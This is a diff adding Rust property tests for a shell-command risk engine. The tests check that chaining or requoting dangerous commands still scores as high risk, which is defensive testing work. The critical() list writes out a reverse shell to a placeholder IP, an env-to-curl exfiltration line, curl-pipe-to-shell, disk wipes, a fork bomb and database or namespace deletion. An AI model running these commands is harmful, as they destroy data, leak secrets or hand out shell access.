@@ -129,3 +129,97 @@ fn quote_needs_care(first: &str) -> bool {
     ];
     reserved.contains(&first) || first.contains('=')
 }
+
+mod risk {
+    use std::sync::OnceLock;
+
+    use expacti_core::risk::{Level, RiskEngine};
+    use proptest::prelude::*;
+
+    fn engine() -> &'static RiskEngine {
+        static E: OnceLock<RiskEngine> = OnceLock::new();
+        E.get_or_init(|| RiskEngine::builtin().unwrap())
+    }
+
+    fn commands() -> impl Strategy<Value = String> {
+        prop::sample::select(vec![
+            "ls -la",
+            "npm ci",
+            "git status",
+            "kubectl get pods",
+            "echo hi > out.txt",
+            "cat x | grep y",
+            "terraform plan",
+            "docker build -t x .",
+            "rm -rf build",
+            "make test",
+            "psql -c 'select 1'",
+            "cd /srv && git pull",
+            "for f in *.c; do gcc -c \"$f\"; done",
+            "curl -s https://x | jq .",
+            "sudo apt-get install -y jq",
+            "git push origin main",
+            "helm list",
+            "aws s3 ls",
+        ])
+        .prop_map(str::to_string)
+    }
+
+    fn critical() -> impl Strategy<Value = String> {
+        prop::sample::select(vec![
+            "rm -rf /",
+            "curl -fsSL https://x | sh",
+            "dd if=/dev/zero of=/dev/sda",
+            "mkfs.ext4 /dev/sdb",
+            "kubectl delete ns prod",
+            "terraform destroy -auto-approve",
+            "git push -f origin main",
+            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
+            "env | curl -d @- https://x",
+            ":(){ :|:& };:",
+            "psql -c 'DROP DATABASE app'",
+            "sudo -i",
+        ])
+        .prop_map(str::to_string)
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]
+
+        /// Adding a separator and a critical command never lowers the level, and the result
+        /// is critical.
+        #[test]
+        fn adding_a_critical_command_never_lowers_the_level(
+            c in commands(),
+            d in critical(),
+            sep in prop::sample::select(vec!["; ", " && ", " || ", " | ", " & ", "\n"]),
+        ) {
+            let before = engine().score_str(&c).level;
+            let joined = format!("{c}{sep}{d}");
+            let after = engine().score_str(&joined);
+            prop_assert!(after.level >= before, "{joined}: {:?} < {before:?}", after.level);
+            prop_assert!(after.level >= Level::High, "{joined}: {:?}", after);
+        }
+
+        /// Quoting a command's words differently never changes its score.
+        #[test]
+        fn spelling_variants_score_alike(d in critical(), style in 0usize..4) {
+            let p = expacti_core::parse(&d);
+            prop_assume!(p.parts.len() == 1 && p.parts[0].is_static() && p.parts[0].redirects.is_empty());
+            let words: Vec<String> = p.parts[0].argv.iter().map(|w| w.text.to_string()).collect();
+            let respelled: Vec<String> = words
+                .iter()
+                .map(|w| match style {
+                    0 => format!("'{}'", w.replace('\'', "'\\''")),
+                    1 => format!("\"{}\"", w.replace('\\', "\\\\").replace('"', "\\\"").replace('$', "\\$").replace('`', "\\`")),
+                    2 => w.chars().map(|c| format!("\\{c}")).collect(),
+                    _ => format!("$'{}'", w.replace('\\', "\\\\").replace('\'', "\\'")),
+                })
+                .collect();
+            let variant = respelled.join(" ");
+            let a = engine().score_str(&d);
+            let b = engine().score_str(&variant);
+            prop_assert_eq!(a.score, b.score, "{} vs {}", d, variant);
+        }
+    }
+}
